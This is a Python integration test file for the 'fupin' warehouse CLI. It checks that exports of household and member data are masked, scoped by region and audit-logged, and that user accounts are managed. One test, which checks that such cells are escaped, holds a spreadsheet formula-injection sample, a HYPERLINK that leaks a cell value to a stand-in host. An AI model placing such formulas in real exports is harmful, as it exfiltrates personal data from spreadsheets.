"""`fupin export` and `fupin users` through the command line, against real logins."""

from __future__ import annotations

import csv
import re
import uuid

import psycopg2
import pytest
import yaml
from openpyxl import load_workbook
from privacy_helpers import scenario

from fupin import warehouse
from fupin.cli import main
from fupin.privacy.cells import neutralise

# one worker builds the shared warehouse (conftest `built`) for all of them
pytestmark = [pytest.mark.integration, pytest.mark.xdist_group("privacy_warehouse")]
FULL_ID = re.compile(r"(?<![0-9])[0-9]{17}[0-9Xx](?![0-9])")


def write_config(path, dsn):
    path.write_text(
        yaml.safe_dump({"province": "52", "warehouse": {"dsn": dsn}, "landing": {"root": "."}}),
        encoding="utf-8",
    )
    return path


@pytest.fixture
def admin_config(built, tmp_path):
    return write_config(tmp_path / "admin.yml", built.admin_dsn)


def exports(built, login):
    with warehouse.connect(built.admin_dsn) as conn, conn.cursor() as cur:
        cur.execute(
            "select object, row_count, purpose, details from audit.access_log"
            " where who = %s and action = 'export' order by log_id",
            (login,),
        )
        return cur.fetchall()


def test_county_export_is_masked_scoped_and_logged(built, tmp_path, capsys):
    config = write_config(tmp_path / "county.yml", built.dsns["county"])
    out = tmp_path / "member.csv"
    argv = ["export", "--config", str(config), "--table", "member", "--region"]
    assert main([*argv, scenario.COUNTY, "--reason", "school fee list", "--output", str(out)]) == 0
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows and all(r["household_id"].startswith(scenario.COUNTY) for r in rows)
    assert not FULL_ID.search(out.read_text(encoding="utf-8-sig"))
    assert "health" not in rows[0]
    object_, count, purpose, details = exports(built, built.logins["county"])[-1]
    assert (object_, count, purpose) == ("published.member", len(rows), "school fee list")
    assert details["masked"] is True and details["region"] == scenario.COUNTY
    # another county, or the whole city: outside the login's scope
    assert main([*argv, scenario.OTHER_COUNTY, "--reason", "x", "--output", str(out)]) == 1
    assert main([*argv, scenario.COUNTY[:4], "--reason", "x", "--output", str(out)]) == 1
    assert "outside the scope" in capsys.readouterr().err
    assert main([*argv, scenario.COUNTY, "--reason", "x", "--unmasked"]) == 1
    assert "auditors only" in capsys.readouterr().err


def test_auditor_unmasked_xlsx_export_with_reason(built, tmp_path, admin_config):
    out = tmp_path / "household.xlsx"
    argv = ["export", "--config", str(admin_config), "--as", built.logins["auditor"]]
    argv += ["--table", "household", "--region", "5201", "--format", "xlsx"]
    assert main([*argv, "--unmasked", "--reason", "inspection 17", "--output", str(out)]) == 0
    sheet = load_workbook(out).active
    header, *rows = list(sheet.values)
    assert "phone" in header and "head_id_number" in header  # unmasked: the whole table
    assert {r[header.index("county_code")] for r in rows} == {
        scenario.COUNTY,
        scenario.OTHER_COUNTY,
    }
    (entry,) = exports(built, built.logins["auditor"])
    assert entry[0] == "marts.household" and entry[2] == "inspection 17"
    assert entry[3]["masked"] is False


def test_formula_cells_are_neutralised():
    for value in ('=HYPERLINK("http://x/?leak="&B2,"click")', "+1", "-2+3", "@SUM(A1)"):
        assert neutralise(value) == "'" + value
    assert neutralise("张三") == "张三" and neutralise(-5) == -5


def test_users_add_list_disable(built, admin_config, capsys):
    name = f"t{uuid.uuid4().hex[:8]}_clerk"
    base = ["users", "add", name, "--config", str(admin_config)]
    try:
        assert main([*base, "--role", "county_user", "--region", "5201"]) == 1
        assert "6-digit region" in capsys.readouterr().err
        assert main([*base, "--role", "steward", "--region", "52"]) == 1
        powerful = ["users", "add", "postgres", "--config", str(admin_config)]
        assert main([*powerful, "--role", "auditor", "--region", "52"]) == 1
        assert "other powers" in capsys.readouterr().err
        assert main([*base, "--role", "county_user", "--region", scenario.COUNTY]) == 0
        password = capsys.readouterr().out.rsplit(": ", 1)[1].strip()
        dsn = warehouse.with_database(built.admin_dsn, built.dbname)
        from sqlalchemy.engine import make_url

        own = make_url(dsn).set(username=name, password=password).render_as_string(False)
        with psycopg2.connect(own) as conn, conn.cursor() as cur:
            cur.execute("select count(*) > 0 from published.household")
            assert cur.fetchone() == (True,)
        assert main(["users", "list", "--config", str(admin_config)]) == 0
        listed = capsys.readouterr().out
        assert re.search(rf"{name}\s+county_user\s+{scenario.COUNTY}\s+enabled", listed)
        assert main(["users", "disable", name, "--config", str(admin_config)]) == 0
        with pytest.raises(psycopg2.OperationalError):
            psycopg2.connect(own).close()
        assert main(["users", "list", "--config", str(admin_config)]) == 0
        assert re.search(rf"{name}\s+.*disabled", capsys.readouterr().out)
    finally:
        with warehouse.connect(built.admin_dsn) as conn, conn.cursor() as cur:
            cur.execute(f'drop role if exists "{name}"')
